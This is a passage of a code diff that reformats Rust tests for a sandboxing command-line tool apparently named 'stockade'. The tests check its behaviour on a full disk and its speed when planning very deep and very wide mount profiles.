-            assert!(output.status.code() == Some(125) && text(&output.stderr).contains("no space left"), "{words:?}: {}", said(&output));
+            assert!(
+                output.status.code() == Some(125) && text(&output.stderr).contains("no space left"),
+                "{words:?}: {}",
+                said(&output)
+            );
         }
     });
 }
@@ -431,16 +745,36 @@ fn a_full_disk_is_no_success() {
 fn a_deep_and_a_wide_tree_are_planned_and_explained_in_time() {
     let place = Place::new();
     let deep = "/a".repeat(1_900);
-    let many: String = (0..4_000).map(|n| format!("\"/w/{n}\" = {{ bind = \"/srv\", access = \"ro\" }}\n")).collect();
+    let many: String = (0..4_000)
+        .map(|n| format!("\"/w/{n}\" = {{ bind = \"/srv\", access = \"ro\" }}\n"))
+        .collect();
     let writable = place.folder("writable", As::User);
-    let wide: String = (0..4_000).map(|n| format!("\"/w/{n}\" = {{ bind = \"{}\", access = \"rw\" }}\n", writable.display())).collect();
-    for profile in [format!("{BASE}[mounts]\n\"{deep}\" = \"tmpfs\"\n"), format!("{BASE}[mounts]\n{many}"), format!("{BASE}[mounts]\n{wide}")] {
-        for (words, question) in [(&["plan"][..], &[][..]), (&["plan", "--format", "json"], &[]), (&["why", "--no-change"], &[&*deep])] {
+    let wide: String = (0..4_000)
+        .map(|n| format!("\"/w/{n}\" = {{ bind = \"{}\", access = \"rw\" }}\n", writable.display()))
+        .collect();
+    for profile in [
+        format!("{BASE}[mounts]\n\"{deep}\" = \"tmpfs\"\n"),
+        format!("{BASE}[mounts]\n{many}"),
+        format!("{BASE}[mounts]\n{wide}"),
+    ] {
+        for (words, question) in [
+            (&["plan"][..], &[][..]),
+            (&["plan", "--format", "json"], &[]),
+            (&["why", "--no-change"], &[&*deep]),
+        ] {
             let start = Instant::now();
             let output = stockade(&place, As::User, words, &profile, question);
             let cut: String = profile.chars().skip(BASE.len()).take(40).collect();
-            assert!(output.status.code().is_some_and(|status| status < 2), "{words:?}: {cut}: {}", text(&output.stderr));
-            assert!(start.elapsed() < Duration::from_secs(20), "{words:?}: {cut}: {:?}", start.elapsed());
+            assert!(
+                output.status.code().is_some_and(|status| status < 2),
+                "{words:?}: {cut}: {}",
+                text(&output.stderr)
+            );
+            assert!(
+                start.elapsed() < Duration::from_secs(20),
+                "{words:?}: {cut}: {:?}",
+                start.elapsed()
+            );
             eprintln!("{:?} {words:?} {cut}", start.elapsed());
         }
     }
